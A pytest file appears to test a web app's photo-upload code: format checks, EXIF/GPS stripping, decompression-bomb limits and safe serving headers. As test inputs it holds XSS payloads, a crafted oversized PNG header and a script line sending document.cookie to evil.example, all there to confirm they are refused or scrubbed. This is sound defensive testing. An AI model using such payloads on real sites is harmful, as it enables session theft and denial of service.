"""Uploaded photos: only real JPEG, PNG or WebP is stored, re-encoded without metadata or hidden bytes,
bombs are refused before decoding, and a stored photo is served typed and never sniffed."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin
from werkzeug.datastructures import FileStorage

from app.core.errors import NotFound, ValidationFailed
from app.core.uploads import MAX_PHOTO_BYTES, MAX_PHOTO_PIXELS, save_photo, send_photo

GPS_IFD, ORIENTATION = 0x8825, 0x0112


def _image(fmt: str, size: tuple[int, int] = (12, 8), mode: str = "RGB", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "orange" if mode != "1" else 1).save(out, fmt, **options)
    return out.getvalue()


def _upload(data: bytes, mimetype: str = "image/png", filename: str = "photo.png") -> FileStorage:
    return FileStorage(stream=io.BytesIO(data), filename=filename, content_type=mimetype)


def _refused(data: bytes, folder: Path, mimetype: str = "image/png") -> ValidationFailed:
    with pytest.raises(ValidationFailed) as refused:
        save_photo(_upload(data, mimetype), folder, "t")
    assert not folder.exists() or list(folder.iterdir()) == []  # nothing of it was written
    return refused.value


def _claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width x height pixels (CRC kept valid): a decompression bomb's header."""
    png = bytearray(_image("PNG", (1, 1), mode="L"))
    png[16:24] = struct.pack(">II", width, height)
    png[29:33] = struct.pack(">I", zlib.crc32(bytes(png[12:29])))
    return bytes(png)


@pytest.mark.parametrize(("fmt", "mimetype", "suffix"), [
    ("JPEG", "image/jpeg", ".jpg"), ("PNG", "image/png", ".png"), ("WEBP", "image/webp", ".webp")])
def test_a_real_photo_is_stored_in_its_own_format(tmp_path, fmt, mimetype, suffix):
    name = save_photo(_upload(_image(fmt), mimetype), tmp_path, "42")
    assert name.startswith("42-") and name.endswith(suffix)
    with Image.open(tmp_path / name) as stored:
        assert stored.format == fmt and stored.size == (12, 8)


def test_the_stored_extension_is_the_real_format_not_the_declared_one(tmp_path):
    name = save_photo(_upload(_image("PNG"), "image/jpeg", "photo.jpg"), tmp_path, "7")
    assert name.endswith(".png")
    with Image.open(tmp_path / name) as stored:
        assert stored.format == "PNG"


@pytest.mark.parametrize("data", [
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>',
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44,
    b"\xff\xd8court",  # a JPEG's first two bytes and nothing of an image
    b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
], ids=["html", "svg", "elf", "jpeg-magic-only", "gif"])
def test_bytes_that_are_not_a_photo_are_refused_whatever_they_declare(tmp_path, data):
    refused = _refused(data, tmp_path / "tickets")
    assert refused.code == "bad_photo" and refused.status == 422 and "图片" in refused.message


def test_a_truncated_photo_is_refused(tmp_path):
    whole = _image("JPEG", (64, 64))
    assert _refused(whole[: len(whole) // 2], tmp_path, "image/jpeg").code == "bad_photo"


def test_exif_with_gps_is_not_stored(tmp_path):
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (31.0, 14.0, 5.0), 3: "E", 4: (121.0, 28.0, 9.0)})
    data = _image("JPEG", exif=exif, xmp=b'<x:xmpmeta><exif:GPSLatitude>31,14.5N</exif:GPSLatitude></x:xmpmeta>')
    with Image.open(io.BytesIO(data)) as sent:
        assert sent.getexif().get_ifd(GPS_IFD)  # the upload does carry GPS
    name = save_photo(_upload(data, "image/jpeg"), tmp_path, "1")
    stored = (tmp_path / name).read_bytes()
    with Image.open(io.BytesIO(stored)) as photo:
        assert dict(photo.getexif()) == {} and not photo.getexif().get_ifd(GPS_IFD)
        assert "exif" not in photo.info and "xmp" not in photo.info
    assert b"Exif" not in stored and b"GPSLatitude" not in stored and b"PhoneMaker" not in stored


def test_a_sideways_photo_is_stored_upright(tmp_path):
    exif = Image.Exif()
    exif[ORIENTATION] = 6  # the camera was turned: rotate 90 degrees clockwise to view
    name = save_photo(_upload(_image("JPEG", (40, 20), exif=exif), "image/jpeg"), tmp_path, "1")
    with Image.open(tmp_path / name) as stored:
        assert stored.size == (20, 40) and ORIENTATION not in stored.getexif()


def test_bytes_after_the_image_and_text_chunks_are_not_stored(tmp_path):
    payload = b"<script>fetch('//evil.example/'+document.cookie)</script>"
    name = save_photo(_upload(_image("JPEG") + payload, "image/jpeg"), tmp_path, "1")
    stored = (tmp_path / name).read_bytes()
    assert payload not in stored and stored.endswith(b"\xff\xd9")  # ends at the JPEG's end-of-image marker
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", payload.decode())
    name = save_photo(_upload(_image("PNG", pnginfo=text) + payload), tmp_path, "2")
    assert payload not in (tmp_path / name).read_bytes()


def test_a_transparent_png_keeps_its_transparency(tmp_path):
    name = save_photo(_upload(_image("PNG", mode="RGBA")), tmp_path, "1")
    with Image.open(tmp_path / name) as stored:
        assert stored.mode == "RGBA"


def test_too_many_pixels_are_refused_before_decoding(tmp_path):
    bomb = _image("PNG", (8000, 5200), mode="1")  # 41.6 megapixels in a few kilobytes
    assert len(bomb) < 100_000 and 8000 * 5200 > MAX_PHOTO_PIXELS
    refused = _refused(bomb, tmp_path)
    assert refused.code == "bad_photo" and "尺寸" in refused.message
    assert _refused(_claiming(10_000, 4_100), tmp_path).code == "bad_photo"  # over our cap, under Pillow's
    assert _refused(_claiming(60_000, 60_000), tmp_path).code == "bad_photo"  # Pillow's DecompressionBombError
    name = save_photo(_upload(_image("PNG", (4000, 3000), mode="1")), tmp_path, "ok")  # 12 MP: a phone photo
    assert name.endswith(".png")


def test_a_file_over_5_mb_is_refused(tmp_path):
    refused = _refused(b"\x89PNG\r\n\x1a\n" + b"\x00" * MAX_PHOTO_BYTES, tmp_path)
    assert refused.code == "photo_too_large"


def test_a_stored_photo_is_served_typed_and_never_sniffed(app, tmp_path):
    names = [save_photo(_upload(_image(fmt), mimetype), tmp_path, "s") for fmt, mimetype in (
        ("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp"))]
    with app.test_request_context():
        for name, mimetype in zip(names, ("image/jpeg", "image/png", "image/webp"), strict=True):
            response = send_photo(tmp_path / name)
            response.direct_passthrough = False
            assert response.mimetype == mimetype and response.headers["X-Content-Type-Options"] == "nosniff"
            assert "sandbox" in response.headers["Content-Security-Policy"]
            assert response.get_data() == (tmp_path / name).read_bytes()
        (tmp_path / "page.html").write_text("<script>alert(1)</script>")
        with pytest.raises(NotFound):
            send_photo(tmp_path / "page.html")
